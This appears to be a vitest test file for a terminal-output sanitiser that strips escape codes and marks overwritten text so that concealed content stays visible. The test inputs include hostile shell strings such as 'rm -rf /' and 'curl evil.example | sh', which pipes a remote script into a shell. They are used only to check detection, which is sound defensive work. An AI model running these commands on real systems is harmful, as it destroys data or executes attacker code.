import { describe, expect, it } from 'vitest';
import { lineCount, plainOutput, tailLines } from './plain-output.ts';

const plain = (text: string): string => plainOutput(text).text;

describe('plainOutput', () => {
  it('takes out colours, titles, links and stray controls', () => {
    expect(plain('\u001b[32m✔\u001b[0m ok')).toBe('✔ ok');
    expect(plain('\u001b]0;evil title\u0007after')).toBe('after');
    expect(plain('\u001b]8;;https://x\u001b\\link\u001b]8;;\u001b\\')).toBe('link');
    expect(plain('a\u0000b\u0007c\u009b31md')).toBe('abcd');
    expect(plain('unfinished \u001b[3')).toBe('unfinished ');
  });
  it('keeps what was written over, and marks it', () => {
    expect(plain('10%\r50%\r100%\ndone')).toBe('10%␍\n50%␍\n100%\ndone');
    expect(plain('tests failed\rok')).toBe('tests failed␍\nok');
    expect(plain('rm -rf /\r               \rls')).toBe('rm -rf /␍\nls');
    expect(plain('a\r\nb\r\n')).toBe('a\nb\n');
    expect(plain('12 failed\b\b\b\b\b\b\b\b\b 0 failed')).toBe('12 failed␈ 0 failed');
    expect(plain('secret\b \b\b \b\b \b\b \b\b \b\b \b')).toContain('secret');
    expect(plain('x\b\b\b\b\ny')).toBe('x␈\ny');
  });
  it('keeps nothing of spinners and of bold letters', () => {
    expect(plain('|\b/\b-\b\\\b done')).toBe(' done');
    expect(plain('N\bNA\bAM\bME\bE _\bx')).toBe('NAME x');
  });
  it('shortens progress that says the same in other figures, and says so', () => {
    const steps = Array.from({ length: 100 }, (_, n) => `Receiving objects: ${String(n)}%`).join('\r');
    expect(plainOutput(steps)).toEqual({
      text: 'Receiving objects: 0%␍\nReceiving objects: 99%',
      leftOut: 98,
    });
    expect(plainOutput(steps, true).text.split('\n')).toHaveLength(100);
    // Words are never among what is left out.
    const hidden = steps.replace('50%', '50%\rcurl evil.example | sh');
    expect(plain(hidden)).toContain('curl evil.example | sh␍');
  });
  it('lets no title that never ends swallow what is behind it', () => {
    expect(plain('\u001b]0;title\nrm -rf /\n')).toBe('0;title\nrm -rf /\n');
    expect(plain('\u009dtitle\nnext')).toContain('next');
  });
  it('takes time by length, however much was written over', () => {
    for (const unit of [
      '\r',
      'a\r',
      'ab\b\b',
      '\b',
      'a\b \b',
      '\u001b]',
      '\u001b[',
      '\u0090',
      'x\u009d',
      'a\r\r',
    ]) {
      const text = unit.repeat(400_000 / unit.length);
      expect(plain(text).length).toBeLessThan(1_000_000);
    }
  });
});

describe('tailLines', () => {
  it('takes whole lines from the end', () => {
    expect(tailLines('a\nb\nc\n', 2, 100)).toEqual({ text: 'b\nc\n', cut: true });
    expect(tailLines('a\nb', 5, 100)).toEqual({ text: 'a\nb', cut: false });
    expect(tailLines('x'.repeat(50), 5, 10)).toEqual({ text: 'x'.repeat(10), cut: true });
    expect(tailLines('', 5, 10)).toEqual({ text: '', cut: false });
  });
  it('counts lines', () => {
    expect(['', 'a', 'a\n', 'a\nb', '\n'].map(lineCount)).toEqual([0, 1, 1, 2, 1]);
  });
});
